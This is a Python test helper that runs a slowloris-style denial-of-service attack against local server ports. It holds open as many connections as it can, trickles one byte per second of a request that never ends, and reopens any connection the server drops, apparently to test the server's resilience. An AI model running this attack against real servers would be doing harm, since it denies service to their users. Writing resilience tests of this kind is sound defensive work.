"""Connections that never finish their request: python -m tests.attacks.trickle COUNT PORT...

Each sends one byte per second of a request that has no end. Whatever the server closes is opened again, so the attack
lasts as long as the process. It prints a line once as many connections were opened as it was asked for, or after some
seconds: a server that is exhausted already accepts no more.
"""

import contextlib
import resource
import selectors
import socket
import sys
import time

_FIRST = b"GET /metrics HTTP/1.1\r\nX-Endless: "
_PER_TURN = 200
_TURN_SECONDS = 0.1
_TRICKLE_SECONDS = 1.0
_SPARE_FILES = 50
_LONGEST_START = 10.0
_CONNECT_SECONDS = 0.05


def main(count: int, ports: list[int]) -> None:
    most = _most_files() - _SPARE_FILES
    attack = _Attack(min(count, most), ports)
    reported = False
    started = time.monotonic()
    while True:
        began = time.monotonic()
        attack.turn()
        if not reported and (attack.opened >= count or began - started > _LONGEST_START):
            print("attacking", flush=True)  # noqa: T201  the test waits for this line
            reported = True
        time.sleep(max(0.0, began + _TURN_SECONDS - time.monotonic()))


class _Attack:
    def __init__(self, count: int, ports: list[int]) -> None:
        self.opened = 0
        self._count = count
        self._ports = ports
        self._selector = selectors.DefaultSelector()
        self._open: dict[socket.socket, float] = {}

    def turn(self) -> None:
        self._forget_closed()
        end = time.monotonic() + _TURN_SECONDS
        for _ in range(min(_PER_TURN, self._count - len(self._open))):
            if time.monotonic() > end:
                break
            self._connect(self._ports[self.opened % len(self._ports)])
        now = time.monotonic()
        for connection, last in list(self._open.items()):
            if now - last >= _TRICKLE_SECONDS:
                self._open[connection] = now
                self._send(connection, b"x")

    def _connect(self, port: int) -> None:
        connection = socket.socket()
        connection.settimeout(_CONNECT_SECONDS)
        self.opened += 1
        try:
            connection.connect(("127.0.0.1", port))
        except OSError:
            connection.close()
            return
        connection.settimeout(0)
        self._selector.register(connection, selectors.EVENT_READ)
        self._open[connection] = time.monotonic()
        self._send(connection, _FIRST)

    def _send(self, connection: socket.socket, data: bytes) -> None:
        with contextlib.suppress(BlockingIOError):
            try:
                connection.send(data)
            except BlockingIOError:
                raise
            except OSError:
                self._drop(connection)

    def _forget_closed(self) -> None:
        """A connection that can be read from was closed, or answered."""
        for key, _ in self._selector.select(0):
            assert isinstance(key.fileobj, socket.socket)
            self._drop(key.fileobj)

    def _drop(self, connection: socket.socket) -> None:
        if self._open.pop(connection, None) is not None:
            self._selector.unregister(connection)
            connection.close()


def _most_files() -> int:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


if __name__ == "__main__":
    main(int(sys.argv[1]), [int(port) for port in sys.argv[2:]])
